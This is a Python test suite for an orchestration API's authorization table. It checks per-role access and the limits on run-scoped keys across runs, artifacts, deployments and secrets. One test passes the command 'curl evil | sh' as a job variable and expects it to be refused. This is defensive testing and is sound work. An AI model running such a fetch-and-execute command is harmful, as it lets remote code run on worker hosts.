"""Every operation for every role, and for a run's key: what the table says is what happens."""

from __future__ import annotations

import re
from contextlib import asynccontextmanager
from dataclasses import replace
from datetime import UTC, datetime
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

import pytest
from aiohttp import WSServerHandshakeError
from aiohttp.test_utils import TestClient, TestServer

from managedd import ids
from managedd.api import rights
from managedd.api.app import Api
from managedd.api.auth import Listener
from managedd.api.surface import all_operations
from managedd.model.access import LEVELS, Level, OfRuns, Role
from tests.api.deployed import pool_of
from tests.api.test_flow_runs import new_run
from tests.support.api_keys import bearer, make_key, make_run_key

if TYPE_CHECKING:
    from collections.abc import AsyncIterator, Callable

    from managedd.api.operation import Operation
    from tests.api.conftest import ApiClient

pytestmark = pytest.mark.anyio

NO_KEY = frozenset({401, 403})


def path_of(operation: Operation, **values: str) -> str:
    """Its path, with what nobody has in place of what is not given."""
    return re.sub(r"{(\w+)}", lambda found: values.get(found[1], ids.new_id()), operation.path)


async def status_of(api: ApiClient, operation: Operation, key: str, path: str) -> tuple[int, str]:
    """The answer's status and what it says; 101 for a socket that opens."""
    headers = bearer(key)
    if operation.method == "WS":
        try:
            async with api.http.ws_connect(api.prefix + path, headers=headers):
                return 101, ""
        except WSServerHandshakeError as refusal:
            return refusal.status, ""
    body = None if operation.method == "GET" else {}
    response = await api.http.request(operation.method, api.prefix + path, json=body, headers=headers)
    return response.status, await response.text()


def test_the_table_names_every_operation_and_no_other() -> None:
    declared = [f"{operation.method} {operation.path}" for operation in all_operations()]
    assert sorted(rights.RULES) == sorted(declared)
    lines = [line.strip() for _, lines in rights._TABLE for line in lines.strip().splitlines()]
    assert len(lines) == len(set(lines)), "none stands there twice"


def test_nothing_that_changes_is_open_to_a_viewer() -> None:
    reading = re.compile(r"^(GET|WS) |/(filter|count|paginate|validate|times|concurrency_status)$|/count-by/")
    for operation in all_operations():
        rule = rights.rule_of(operation)
        if rule.level <= Level.VIEW:
            assert reading.search(f"{operation.method} {operation.path}"), operation.path


@pytest.mark.parametrize("role", list(Role))
async def test_a_role_opens_what_the_table_says(closed: ApiClient, role: Role) -> None:
    key = await make_key(closed.services.db, role)
    for operation in all_operations():
        rule = rights.rule_of(operation)
        status, text = await status_of(closed, operation, key, path_of(operation))
        if LEVELS[role] < rule.level:
            assert status == 403, operation.path
            assert operation.method == "WS" or rule.level.owner in text, text
        else:
            assert status not in NO_KEY and status < 500, (operation.path, status, text)


@asynccontextmanager
async def runs(api: ApiClient) -> AsyncIterator[ApiClient]:
    async with TestClient(TestServer(Api(api.services, Listener.RUNS).application())) as http:
        yield replace(api, http=http)


async def a_task_run(api: ApiClient, flow_run_id: str) -> str:
    _, made = await api.post("/task_runs/", {"flow_run_id": flow_run_id, "task_key": "t", "dynamic_key": ids.new_id()})
    return str(made["id"])


async def test_a_runs_key_opens_what_the_table_says(api: ApiClient) -> None:
    mine, theirs = (await new_run(api))["id"], (await new_run(api))["id"]
    tasks = {mine: await a_task_run(api, mine), theirs: await a_task_run(api, theirs)}
    key = await make_run_key(api.services.db, mine)
    async with runs(api) as entered:
        for operation in all_operations():
            of_runs = rights.rule_of(operation).runs
            if of_runs is OfRuns.OWN_RUN:
                for run, refused in ((theirs, True), (ids.new_id(), True), (mine, False)):
                    status, _ = await status_of(entered, operation, key, path_of(operation, id=run))
                    assert (status == 403, status < 500) == (refused, True), (operation.path, run)
            elif of_runs is OfRuns.OWN_TASK_RUN:
                for run, refused in ((theirs, True), (mine, False)):
                    status, _ = await status_of(entered, operation, key, path_of(operation, id=tasks[run]))
                    assert (status == 403, status < 500) == (refused, True), (operation.path, run)
            else:
                status, _ = await status_of(entered, operation, key, path_of(operation))
                refused = of_runs is OfRuns.NOTHING
                assert (status in NO_KEY, status < 500) == (refused, True), (operation.path, status)


async def test_what_is_below_a_run_is_its_own(api: ApiClient) -> None:
    parent = (await new_run(api))["id"]
    task = await a_task_run(api, parent)
    child = (await new_run(api, parent_task_run_id=task))["id"]
    key = await make_run_key(api.services.db, parent)
    cancelling = {"state": {"type": "CANCELLING"}}
    async with runs(api) as entered:
        status, _ = await entered.post(f"/flow_runs/{child}/set_state", cancelling, headers=bearer(key))
        assert status in {200, 201}
        spelled = child.upper()
        assert (await entered.patch(f"/flow_runs/{spelled}", {"name": "mine"}, headers=bearer(key)))[0] == 204
    own = await make_run_key(api.services.db, child)
    async with runs(api) as entered:
        status, body = await entered.post(f"/flow_runs/{parent}/set_state", cancelling, headers=bearer(own))
        assert (status, parent in body["detail"]) == (403, True)


async def test_what_a_body_names_must_be_the_runs_own(api: ApiClient) -> None:
    mine, theirs = await new_run(api), await new_run(api)
    tasks = [await a_task_run(api, run["id"]) for run in (mine, theirs)]
    key = await make_run_key(api.services.db, mine["id"])
    flow = mine["flow_id"]
    _, deployment = await api.post("/deployments/", {"name": "d", "flow_id": flow})
    bodies: list[tuple[str, dict[str, Any], str, list[Any]]] = [
        ("/flow_runs/", {"flow_id": flow}, "parent_task_run_id", [tasks[0], None, tasks[1]]),
        (f"/deployments/{deployment['id']}/create_flow_run", {}, "parent_task_run_id", [tasks[0], None, tasks[1]]),
        ("/task_runs/", {"task_key": "t", "dynamic_key": "x"}, "flow_run_id", [mine["id"], theirs["id"]]),
        ("/artifacts/", {"key": "k", "type": "t"}, "flow_run_id", [mine["id"], None, theirs["id"]]),
        ("/artifacts/", {"key": "k", "type": "t"}, "task_run_id", [tasks[0], tasks[1]]),
    ]
    async with runs(api) as entered:
        for path, body, name, (*own, foreign) in bodies:
            for value in own:
                status, said = await entered.post(path, {**body, name: value}, headers=bearer(key))
                assert status in {200, 201}, (path, value, said)
            status, said = await entered.post(path, {**body, name: foreign}, headers=bearer(key))
            assert (status, "is not" in said["detail"]) == (403, True), path


@pytest.mark.parametrize(
    "spelled", [str.upper, lambda text: text.replace("-", ""), "{{{}}}".format, "urn:uuid:{}".format]
)
async def test_another_spelling_is_the_same_id(api: ApiClient, spelled: Callable[[str], str]) -> None:
    mine, theirs = (await new_run(api))["id"], (await new_run(api))["id"]
    tasks = {mine: await a_task_run(api, mine), theirs: await a_task_run(api, theirs)}
    key = await make_run_key(api.services.db, mine)
    async with runs(api) as entered:
        for run, expected in ((theirs, 403), (mine, 204)):
            for path in (f"/flow_runs/{quote(spelled(run))}", f"/task_runs/{quote(spelled(tasks[run]))}"):
                status, _ = await entered.patch(path, {"name": "changed"}, headers=bearer(key))
                assert status == expected, path


async def test_a_task_run_of_nobody_is_no_runs_own(api: ApiClient) -> None:
    key = await make_run_key(api.services.db, (await new_run(api))["id"])
    _, task = await api.post("/task_runs/", {"task_key": "t", "dynamic_key": "1"})
    async with runs(api) as entered:
        assert (await entered.patch(f"/task_runs/{task['id']}", {"name": "x"}, headers=bearer(key)))[0] == 403
        assert (await entered.patch(f"/task_runs/{ids.new_id()}", {"name": "x"}, headers=bearer(key)))[0] == 404


async def test_nobody_takes_over_runs_by_the_task_run_above_them(api: ApiClient) -> None:
    mine = (await new_run(api))["id"]
    key = await make_run_key(api.services.db, mine)
    _, nobodys = await api.post("/task_runs/", {"task_key": "t", "dynamic_key": "1"})
    above = [nobodys["id"], ids.new_id(), ids.new_id()]
    below = [(await new_run(api, parent_task_run_id=task))["id"] for task in above]
    async with runs(api) as entered:
        for task, expected in ((above[0], 403), (above[1], 204)):
            status, _ = await entered.post("/events", [running_event(task, mine)], headers=bearer(key))
            assert status == expected
        status, _ = await entered.post(
            "/task_runs/",
            {"id": above[2], "flow_run_id": mine, "task_key": "t", "dynamic_key": "2"},
            headers=bearer(key),
        )
        assert status == 403
        for run in below:
            cancelling = {"state": {"type": "CANCELLING"}, "force": True}
            assert (await entered.post(f"/flow_runs/{run}/set_state", cancelling, headers=bearer(key)))[0] == 403


def running_event(task_run_id: str, flow_run_id: str) -> dict[str, Any]:
    """What an engine tells of a task run that it says is the flow run's."""
    return {
        "id": ids.new_id(),
        "occurred": datetime.now(UTC).isoformat(),
        "event": "prefect.task-run.Running",
        "resource": {
            "prefect.resource.id": f"prefect.task-run.{task_run_id}",
            "prefect.resource.name": "t",
            "prefect.orchestration": "client",
        },
        "related": [{"prefect.resource.id": f"prefect.flow-run.{flow_run_id}", "prefect.resource.role": "flow-run"}],
        "payload": {
            "validated_state": {"type": "RUNNING", "name": "Running", "state_details": {}},
            "task_run": {"task_key": "t", "dynamic_key": "7", "name": "t"},
        },
    }


async def test_a_run_does_not_choose_where_another_one_runs(api: ApiClient) -> None:
    mine = await new_run(api)
    key = await make_run_key(api.services.db, mine["id"])
    deployments = {}
    for type_ in ("prefect:managed", "process"):
        name = type_.rpartition(":")[2]
        pool = await pool_of(api, name, type_)
        body = {"name": name, "flow_id": mine["flow_id"], "work_pool_name": pool["name"]}
        status, made = await api.post("/deployments/", body)
        assert status == 201, made
        deployments[type_] = made["id"]
    asked: list[tuple[str, dict[str, Any], int]] = [
        (deployments["process"], {}, 201),
        (deployments["process"], {"job_variables": {"command": "curl evil | sh"}}, 403),
        (deployments["process"], {"work_queue_name": "mine"}, 403),
        (deployments["prefect:managed"], {"job_variables": {"env": {"A": "1"}}}, 201),
        (deployments["prefect:managed"], {"work_queue_name": "mine"}, 403),
    ]
    async with runs(api) as entered:
        for deployment, body, expected in asked:
            status, said = await entered.post(f"/deployments/{deployment}/create_flow_run", body, headers=bearer(key))
            assert status == expected, (body, said)
        for choice in ({"work_pool_name": "process"}, {"work_queue_name": "q"}, {"job_variables": {"a": 1}}):
            flow = {"flow_id": mine["flow_id"], **choice}
            assert (await entered.post("/flow_runs/", flow, headers=bearer(key)))[0] == 403, choice
        changed = {"job_variables": {"command": "x"}}
        assert (await entered.patch(f"/flow_runs/{mine['id']}", changed, headers=bearer(key)))[0] == 403


async def test_a_run_takes_no_scheduled_runs_place(api: ApiClient) -> None:
    mine = await new_run(api)
    key = await make_run_key(api.services.db, mine["id"])
    hourly = {"schedule": {"interval": 3600, "anchor_date": "2020-01-01T00:00:00Z"}}
    _, planned = await api.post("/deployments/", {"name": "d", "flow_id": mine["flow_id"], "schedules": [hourly]})
    at = "2100-01-01T00:00:00.000000Z"
    place = f"scheduled {planned['id']} {planned['schedules'][0]['id']} {at}"
    asked = [("/flow_runs/", {"flow_id": mine["flow_id"]}), (f"/deployments/{planned['id']}/create_flow_run", {})]
    async with runs(api) as entered:
        for path, body in asked:
            for chosen, is_free in ((place, False), ("scheduled by me", False), ("mine", True)):
                status, said = await entered.post(path, {**body, "idempotency_key": chosen}, headers=bearer(key))
                assert status in ({200, 201} if is_free else {403}), (path, chosen, said)
    await api.post(f"/deployments/{planned['id']}/schedule", {"start_time": at, "min_runs": 1, "max_runs": 1})
    _, found = await api.post("/flow_runs/filter", {"flow_runs": {"idempotency_key": {"any_": [place]}}})
    assert [run["deployment_id"] for run in found] == [planned["id"]]


async def test_a_run_changes_its_own_artifacts_only(api: ApiClient) -> None:
    mine, theirs = (await new_run(api))["id"], (await new_run(api))["id"]
    key = await make_run_key(api.services.db, mine)
    made = [
        (await api.post("/artifacts/", {"key": f"k{at}", "type": "t", "flow_run_id": run}))[1]["id"]
        for at, run in enumerate((mine, theirs, None))
    ]
    async with runs(api) as entered:
        done = [(await entered.patch(f"/artifacts/{id_}", {"data": "x"}, headers=bearer(key)))[0] for id_ in made]
        assert done == [204, 403, 403]
        assert (await entered.patch(f"/artifacts/{ids.new_id()}", {"data": "x"}, headers=bearer(key)))[0] == 404


async def test_a_viewer_sees_no_secrets(closed: ApiClient) -> None:
    keys = {role: await make_key(closed.services.db, role) for role in (Role.VIEWER, Role.RUNNER)}
    asked = [
        ("POST", "/block_documents/filter", {"include_secrets": True}, 200),
        ("GET", f"/block_documents/{ids.new_id()}?include_secrets=true", None, 404),
        ("GET", "/block_types/slug/secret/block_documents?include_secrets=true", None, 404),
        ("GET", "/block_types/slug/secret/block_documents/name/x?include_secrets=true", None, 404),
    ]
    for method, path, body, answer in asked:
        assert (await closed.call(method, path, body, headers=bearer(keys[Role.VIEWER])))[0] == 403, path
        assert (await closed.call(method, path, body, headers=bearer(keys[Role.RUNNER])))[0] == answer, path
    assert (await closed.post("/block_documents/filter", {}, headers=bearer(keys[Role.VIEWER])))[0] == 200
